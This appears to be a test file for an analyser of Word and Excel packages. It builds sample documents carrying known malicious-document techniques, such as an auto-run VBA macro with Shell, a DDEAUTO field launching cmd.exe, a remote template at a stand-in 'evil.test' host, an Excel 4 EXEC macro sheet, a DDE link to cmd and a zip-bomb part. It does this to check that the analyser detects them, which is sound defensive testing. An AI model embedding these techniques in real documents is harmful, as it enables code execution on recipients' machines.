import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildOle } from '../ole/test-kit.ts';
import { detailsOf, lookInto } from '../test-kit.ts';
import { vbaStreams } from '../vba/test-kit.ts';
import { buildPackage, relationships } from './test-kit.ts';

async function ooxmlOf(parts: Parameters<typeof buildPackage>[0]) {
  return detailsOf(await lookInto('ooxml', buildPackage(parts)), 'ooxml');
}

test('a document: macros, templates from elsewhere, fields cut into runs, objects', async () => {
  const project = buildOle(
    vbaStreams('', { ThisDocument: 'Sub Document_Open()\r\nShell "x"\r\nEnd Sub' }),
  );
  const looked = await lookInto(
    'ooxml',
    buildPackage({
      'word/document.xml':
        '<w:document><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText>' +
        '<w:instrText xml:space="preserve">AUTO c:\\cmd.exe &quot;/k calc&quot;</w:instrText>' +
        '<w:fldChar w:fldCharType="end"/><w:fldSimple w:instr="PAGE"/></w:document>',
      'word/_rels/settings.xml.rels': relationships(
        { type: 'attachedTemplate', target: 'http://evil.test/t.dotm' },
        { type: 'image', target: 'media/a.png', external: false },
      ),
      'word/vbaProject.bin': project,
      'word/embeddings/oleObject1.bin': Buffer.alloc(10),
      'customUI/customUI14.xml': '<customUI onLoad="Start"/>',
    }),
  );
  const ooxml = detailsOf(looked, 'ooxml');
  assert.deepEqual(looked.structure.problems, []);
  assert.equal(ooxml.application, 'word');
  assert.deepEqual(ooxml.macros?.autoRun, ['Document_Open']);
  assert.deepEqual(ooxml.external, [
    {
      type: 'attachedTemplate',
      target: 'http://evil.test/t.dotm',
      part: 'word/_rels/settings.xml.rels',
    },
  ]);
  assert.deepEqual(ooxml.fields, [
    { instruction: 'DDEAUTO', text: 'DDEAUTO c:\\cmd.exe "/k calc"' },
  ]);
  assert.deepEqual(ooxml.embedded, [{ part: 'word/embeddings/oleObject1.bin', size: 10 }]);
  assert.deepEqual(ooxml.onLoad, ['Start']);
});

test('a workbook: macro sheets, hidden sheets, names that run by themselves, DDE', async () => {
  const ooxml = await ooxmlOf({
    'xl/workbook.xml':
      '<workbook><sheets><sheet name="A"/><sheet name="M" state="veryHidden"/></sheets>' +
      '<definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>',
    'xl/macrosheets/sheet1.xml':
      '<xm><c><f>EXEC(&quot;calc&quot;)</f></c><c><f>HALT()</f></c></xm>',
    'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
  });
  assert.equal(ooxml.application, 'excel');
  assert.deepEqual(ooxml.excel4[0]?.formulas, ['EXEC("calc")', 'HALT()']);
  assert.deepEqual(ooxml.hiddenSheets, [{ name: 'M', state: 'veryHidden' }]);
  assert.deepEqual(ooxml.autoRunNames, ['_xlnm.Auto_Open']);
  assert.deepEqual(ooxml.dde, [{ service: 'cmd', topic: '/c calc' }]);
});

test('a part that unpacks to more than is allowed is a limit, not a failure', async () => {
  const bomb = Buffer.alloc(17 * 1_048_576, ' ');
  const looked = await lookInto('ooxml', buildPackage({ 'word/document.xml': bomb }));
  assert.deepEqual(
    looked.hits.map(({ limit, where }) => [limit, where]),
    [['memberBytes', 'part of the package']],
  );
  assert.equal(detailsOf(looked, 'ooxml').application, 'word');
});
